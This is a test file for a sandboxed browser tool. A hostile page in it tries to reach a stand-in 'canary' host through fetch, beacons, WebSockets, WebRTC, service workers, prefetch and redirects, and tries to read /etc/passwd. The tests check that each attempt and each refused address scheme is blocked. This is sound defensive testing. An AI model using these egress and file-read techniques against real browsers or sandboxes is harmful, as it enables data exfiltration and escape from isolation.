import { describe, expect, test } from 'vitest'
import { browserWorld } from './support/browser-world.ts'

/** Everything that a page can try to reach a host that it may not; each tells whether it got through. */
const attack = (
  canary: string,
) => `<title>Attack</title><link rel="dns-prefetch" href="//${canary}"><link rel="preconnect" href="http://${canary}">
<link rel="prefetch" href="http://${canary}/"><img src="http://${canary}/"><script src="http://${canary}/file.js"></script>
<iframe src="http://${canary}/"></iframe><iframe src="/away"></iframe><iframe src="file:///etc/passwd"></iframe>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://${canary}/"]}]}</script><script>
const soon = (work) => Promise.race([work, new Promise((_, fail) => setTimeout(fail, 3000, 'late'))]).then((value) => 'through ' + value, () => 'held')
window.attacks = async () => ({
  fetch: await soon(fetch('http://${canary}/', { mode: 'no-cors' }).then((answer) => { if (!answer.ok && answer.type !== 'opaque') throw 0; return fetch('http://${canary}/').then((real) => real.text()) })),
  redirect: await soon(fetch('/away').then((answer) => answer.ok ? answer.text() : Promise.reject())),
  beacon: String(navigator.sendBeacon('http://${canary}/', 'x')),
  socket: await soon(new Promise((resolve, reject) => { const one = new WebSocket('ws://${canary}/'); one.onopen = resolve; one.onerror = reject })),
  worker: await soon(navigator.serviceWorker.register('/sw.js').then((one) => one.active ?? Promise.reject())),
  rtc: await soon(new Promise((resolve, reject) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${canary}' }] })
    peer.createDataChannel('x'); peer.onicecandidate = ({ candidate }) => candidate ? resolve(candidate.candidate) : reject()
    peer.createOffer().then((offer) => peer.setLocalDescription(offer)) })),
  own: await soon(fetch('http://127.0.0.1:3128/').then((answer) => answer.ok ? answer.text() : Promise.reject())),
  file: await soon(fetch('file:///etc/hostname').then((answer) => answer.text())),
  frames: [...document.querySelectorAll('iframe')].map((frame) => { try { return frame.contentDocument?.body?.innerText ?? '' } catch { return '' } }).join(),
})</script>`

const world = browserWorld((canary) => ({
  '/attack': attack(canary.host),
  '/away': (_, response) => {
    response.writeHead(302, { location: `http://${canary.host}/` })
    response.end()
  },
  '/sw.js': (_, response) => {
    response.writeHead(200, { 'content-type': 'text/javascript' })
    response.end(`self.oninstall = () => fetch('http://${canary.host}/')`)
  },
}))
const { act, done, url } = world

describe('a page that attacks', () => {
  test('reaches no host beyond the allow-list by any way that pages have', async () => {
    await done('open', { url: url('/attack') })
    const { value } = await done<{ value: Record<string, string> }>('evaluate', { script: 'attacks()' })
    const { frames, beacon: _, ...ways } = value
    expect(ways).toEqual(Object.fromEntries(Object.keys(ways).map((way) => [way, 'held'])))
    expect(frames).not.toMatch(/canary|root:/)
    expect(world.canary().seen, 'requests that got through').toEqual([])
    expect((await world.events('browser.request')).some((event) => 'allowed' in event && !event.allowed)).toBe(true)
  })

  test.each([
    'file:///etc/passwd',
    'view-source:http://127.0.0.1/',
    'chrome://version',
    'javascript:1',
    'data:text/html,x',
  ])('cannot be an address like %s', async (address) => {
    expect(await act('navigate', { url: address })).toMatchObject({
      outcome: 'refused',
      error: { code: 'ADDRESS_REFUSED' },
    })
  })

  test('cannot lead the browser to a refused address by a redirect or a script', async () => {
    expect(await act('navigate', { url: url('/away') })).toMatchObject({ error: { code: 'ADDRESS_REFUSED' } })
    await done('navigate', { url: url('/attack') })
    for (const address of ['file:///etc/passwd', 'chrome://version', 'view-source:http://127.0.0.1/']) {
      await done('evaluate', { script: `void (window.open(${JSON.stringify(address)}), location.href)` })
    }
    const { tabs } = await done<{ tabs: { url: string }[] }>('tabs')
    expect(
      tabs.map((tab) => tab.url).filter((address) => !/^(?:http|about:blank|chrome-error:|$)/.test(address)),
    ).toEqual([])
    expect(world.canary().seen).toEqual([])
  })

  test('cannot see another user, and another user cannot see its browser', async () => {
    const { call, keys } = world.tools()
    const path = `/v1/sessions/${world.session()}/browser`
    for (const address of [path, `${path}/live`]) expect((await call(address, { key: keys.ben })).status).toBe(404)
    const body = { type: 'browser.cookies', input: {}, session: world.session() }
    expect((await call('/v1/actions', { key: keys.ben, body })).status).toBe(404)
  })

  test('is not reached at all with an empty allow-list', async () => {
    const { engine } = world.tools()
    const session = await engine.sessions.create({}, 'ben')
    const request = { type: 'browser.open', input: { url: url('/attack') }, session: session.id }
    expect(await engine.actions.executeAction(request, { userId: 'ben' })).toMatchObject({
      error: { code: 'ADDRESS_REFUSED' },
    })
    await engine.sessions.remove(session.id, 'ben')
  })
})
